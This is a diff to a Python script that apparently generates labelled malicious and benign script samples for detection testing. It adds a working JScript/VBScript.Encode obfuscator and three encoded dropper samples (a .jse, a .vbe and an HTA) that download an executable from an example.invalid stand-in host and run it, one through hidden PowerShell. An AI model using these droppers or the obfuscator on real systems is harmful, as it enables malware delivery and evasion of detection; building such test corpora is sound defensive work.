@@ -263,6 +263,55 @@ window.close
 </script></head></html>
 """ % body19[::-1].replace('"', '""'), ["T1105", "T1059.005"], kind="vbs")
 
+# JScript.Encode / VBScript.Encode (screnc.exe's format), written by this encoder: each
+# ASCII character through one of three substitution tables chosen by its position mod 64;
+# LF, CR, <, >, @ escaped; length and checksum as 32-bit little-endian base64.
+ENC_TABLES = [
+    "dP\"Ja^][B`#e_~ORz!F &c*vG%,)i?'?g?bAZf2sMCq9|SH1rnpI?Kj.\x7f(5}$-T7{=l4mN+0otkL3V:xWw;D/YE\\h6Xy\tu8UQ",
+    "7~ZE:yY'vcbMQSR &Tq+f*X\x7f{01lI?x?_?)$/93o!u(BFJ\\H6K}]jPi#\tpet,wD?m|C8^[nWL4r%VshUG25.dO;-Aaz\"`kN=g",
+    "i,er[fuLEv*C3B cJZ8y2Wl+FRO=p?{?Q?z~;GAwV_&xndtg}h5\"U:`jqoI\\]'Y%|#m(19\x7f6T4bN0^s\tKa$MkD!7SXH.P-)?/",
+]
+ENC_PICK = [int(c) for c in "1201202002021020102011200210200211020201011201021020112001120102"]
+ENC_ESC = {"\n": "@&", "\r": "@#", ">": "@*", "<": "@!", "@": "@$"}
+
+
+def b64num(v):
+    import base64
+    return base64.b64encode(v.to_bytes(4, "little")).decode()
+
+
+def screnc(text):
+    body, total = "", 0
+    for m, c in enumerate(text):
+        if c in ENC_ESC:
+            body += ENC_ESC[c]
+        else:
+            body += ENC_TABLES[ENC_PICK[m % 64]][0 if c == "\t" else ord(c) - 31]
+        total += ord(c)
+    return "#@~^" + b64num(len(body)) + body + b64num(total & 0xffffffff) + "^#~@"
+
+
+def encoded(name, text, ids, kind="js"):
+    with open(os.path.join(mal, name), "w", newline="") as f:
+        f.write(screnc(text.replace("\n", "\r\n")))
+    manifest.append("%s %s %s" % (name, kind, ",".join(ids)))
+
+
+# 20. .jse: the plain dropper, encoded
+encoded("invoice.jse", FETCH_SAVE_RUN % dict(
+    xhr='"MSXML2.XMLHTTP"', url='"http://example.invalid/e.exe"', stream='"ADODB.Stream"',
+    path='"C:\\\\Users\\\\Public\\\\e.exe"', shell='"WScript.Shell"', run="Run",
+    cmd='"C:\\\\Users\\\\Public\\\\e.exe"'), ["T1105", "T1059.007", "T1204.002"])
+
+# 21. .vbe: a VBScript dropper, encoded
+encoded("order.vbe", VB_BODY + "\n", ["T1105", "T1059.005", "T1204.002", "T1059.003"], kind="vbs")
+
+# 22. HTA with an encoded VBScript block
+dropper("encoded.hta", """<html><head><hta:application windowstate="minimize"/>
+<script language="VBScript.Encode">%s</script></head><body></body></html>
+""" % screnc('Set s = CreateObject("WScript.Shell")\r\ns.Run "powershell -w hidden -c iwr http://example.invalid/q.exe -OutFile $env:TEMP\\q.exe", 0\r\n'),
+        ["T1105", "T1059.005", "T1059.001"], kind="vbs")
+
 # Benign VBScript: a log file, a sum, a Select Case, a Dictionary, string handling.
 write(ben, "log.vbs", """Option Explicit
 Dim fso, f
